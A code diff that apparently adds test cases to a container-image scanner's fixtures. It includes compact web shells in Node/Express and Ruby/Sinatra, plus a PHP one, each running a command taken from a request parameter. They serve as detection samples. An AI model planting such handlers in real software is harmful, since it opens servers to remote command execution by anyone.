@@ -54,6 +54,23 @@ nothing.
       },
     },
     {
+      name: 'a handler in Node',
+      image: {
+        cmd: ['node', '/app/server.js'],
+        files: {
+          '/app/server.js':
+            "const app = require('express')();\napp.get('/x', (req, res) => require('child_process').exec(req.query.c, (e, out) => res.send(out)));\napp.listen(80);\n",
+        },
+      },
+    },
+    {
+      name: 'a handler in Ruby',
+      image: {
+        cmd: ['ruby', '/app/server.rb'],
+        files: { '/app/server.rb': "require 'sinatra'\nget '/x' do\n  `#{params[:c]}`\nend\n" },
+      },
+    },
+    {
       name: 'deleted by a later layer',
       image: { layers: [{ '/opt/x.php': "<?php system($_GET['c']);\n" }, { '/opt/x.php': null }] },
     },
